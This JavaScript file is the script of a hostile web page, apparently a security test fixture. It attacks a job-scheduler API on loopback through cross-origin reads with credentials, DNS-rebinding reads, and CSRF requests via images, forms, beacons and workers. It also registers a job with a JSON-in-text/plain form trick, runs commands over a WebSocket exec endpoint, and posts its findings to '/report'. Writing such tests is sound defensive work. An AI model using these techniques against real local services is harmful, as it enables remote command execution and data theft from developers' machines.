// The script of a hostile page: what it tries against an API on loopback. It runs in the browser, after `plan` was set, and
// sends its report home: the texts it read, and the ways it tried.

const read = {};
const tried = [];
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

function element(name, values) {
  const made = Object.assign(document.createElement(name), values);
  document.body.append(made);
  return made;
}

function form(action, values, fields) {
  const frame = element('iframe', { name: `f${Math.random()}` });
  const made = element('form', { action, method: 'POST', target: frame.name, ...values });
  for (const [name, value] of Object.entries(fields))
    made.append(Object.assign(document.createElement('input'), { name, value }));
  made.submit();
}

/** A request whose answer is reported when the page sees any of it. */
function take(what, url, options) {
  return async () => {
    const text = await (await fetch(url, options)).text();
    if (text !== '') read[what] = text.slice(0, 200);
  };
}

function socket(what, url) {
  return () =>
    new Promise((resolve) => {
      const opened = new WebSocket(url.replace('http', 'ws'));
      opened.onmessage = ({ data }) => {
        read[what] = data;
      };
      opened.onclose = resolve;
      opened.onerror = resolve;
    });
}

const blind = { mode: 'no-cors', referrerPolicy: 'no-referrer' };

function reads({ name, origin, rebound }) {
  const jobs = `${origin}/v1/jobs`;
  return {
    'read jobs': take(`${name}: jobs`, jobs, {}),
    'read with credentials': take(`${name}: credentials`, jobs, { credentials: 'include' }),
    'read what is cached': take(`${name}: cached`, jobs, { cache: 'force-cache' }),
    'read blindly': take(`${name}: blind`, jobs, blind),
    'read by the name of the page': take(`${name}: rebound`, `${rebound}/v1/jobs`, {}),
    'wait for events': () => new EventSource(`${jobs}?index=1`),
  };
}

/** The field's GETs that change state, by everything that makes a browser send one. */
function collections({ name, origin }) {
  const gc = `${origin}/v1/client/gc`;
  const worker = new Blob([`fetch(${JSON.stringify(`${gc}?8`)}, { mode: 'no-cors' })`]);
  return {
    'collect blindly': take(`${name}: collect`, gc, blind),
    'collect by an image': () =>
      element('img', { src: `${origin}/v1/client/allocation/${plan.allocation}/gc`, referrerPolicy: 'no-referrer' }),
    'collect by a script': () => element('script', { src: `${gc}?1` }),
    'collect by a style': () => element('link', { rel: 'stylesheet', href: `${gc}?2` }),
    'collect ahead': () => element('link', { rel: 'prefetch', href: `${gc}?3` }),
    'collect by a frame': () => element('iframe', { src: `${gc}?4` }),
    'collect by a frame without origin': () => element('iframe', { sandbox: 'allow-scripts', src: `${gc}?5` }),
    'collect by a redirect': () => element('img', { src: `/to?${encodeURIComponent(`${gc}?6`)}` }),
    'collect by a sound': () => element('audio', { src: `${gc}?7`, preload: 'auto' }),
    'collect by a worker': () => new Worker(URL.createObjectURL(worker)),
  };
}

function writes({ name, origin, rebound }) {
  const jobs = `${origin}/v1/jobs`;
  const text = JSON.stringify({ Job: plan.job });
  const post = { ...blind, method: 'POST', body: text };
  const typed = { method: 'PUT', body: text, headers: { 'content-type': 'application/json' } };
  const command = encodeURIComponent(JSON.stringify(plan.command));
  const exec = `/v1/client/allocation/${plan.allocation}/exec?task=t&command=${command}`;
  return {
    'register as text': take(`${name}: text`, jobs, post),
    'register without a type': take(`${name}: typeless`, jobs, { ...post, body: new Blob([text]) }),
    'register as JSON': take(`${name}: JSON`, jobs, typed),
    'register by a redirect': take(`${name}: redirect`, `/to?${encodeURIComponent(jobs)}`, post),
    'register by a beacon': () => navigator.sendBeacon(jobs, text),
    'register by a typed beacon': () => navigator.sendBeacon(jobs, new Blob([text], { type: 'application/json' })),
    'register by a form': () => form(jobs, { enctype: 'text/plain' }, { [`${text.slice(0, -1)},"x":"`]: '"}' }),
    'register by a form of parts': () => form(jobs, { enctype: 'multipart/form-data' }, { a: text }),
    'stop by an empty form': () => form(`${origin}/v1/allocation/${plan.allocation}/stop`, {}, {}),
    'collect by an empty form': () => form(`${origin}/v1/system/gc`, {}, {}),
    'run a command': socket(`${name}: exec`, origin + exec),
    'run a command by the name of the page': socket(`${name}: rebound exec`, rebound + exec),
  };
}

async function attack() {
  for (const target of plan.targets) {
    const ways = { ...reads(target), ...collections(target), ...writes(target) };
    for (const [way, go] of Object.entries(ways)) {
      tried.push(`${target.name}: ${way}`);
      const going = Promise.resolve().then(go);
      await Promise.race([going.catch(() => {}), pause(1_500)]);
    }
  }
  await pause(1_000);
}

attack()
  .catch((error) => tried.push(`broken: ${error}`))
  .then(() => fetch('/report', { method: 'POST', body: JSON.stringify({ read, tried }) }));
